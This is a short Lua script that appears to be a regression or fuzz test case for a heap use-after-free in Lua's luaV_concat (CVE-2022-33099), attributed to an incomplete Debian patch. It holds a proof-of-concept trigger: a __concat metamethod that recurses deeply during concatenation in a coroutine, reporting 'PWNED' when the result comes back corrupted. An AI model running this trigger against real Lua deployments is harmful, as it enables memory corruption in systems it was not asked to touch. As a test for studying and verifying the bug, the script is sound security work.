-- class=compute; entry=load; outcome=script-undefined-name
-- heap use-after-free in luaV_concat: Debian cherry-picked 42d40581 (CVE-2022-33099) without its fix-up 603b2c64
local function deep(n) if n == 0 then return 0 end return 1 + deep(n-1) end
local o = setmetatable({}, {__concat=function(a,b) deep(3000) return "R" end})
local function go() local a,b,c = "x","y","z" return a..b..c..o end
local r if coroutine then r = coroutine.wrap(go)() else r = go() end
if r ~= "xyR" and r ~= "xyzR" then end
local want = "xy".."R" if r ~= want and r ~= "xyzR" then return "PWNED: corrupted concat result "..tostring(r) end return "ok "..tostring(r)
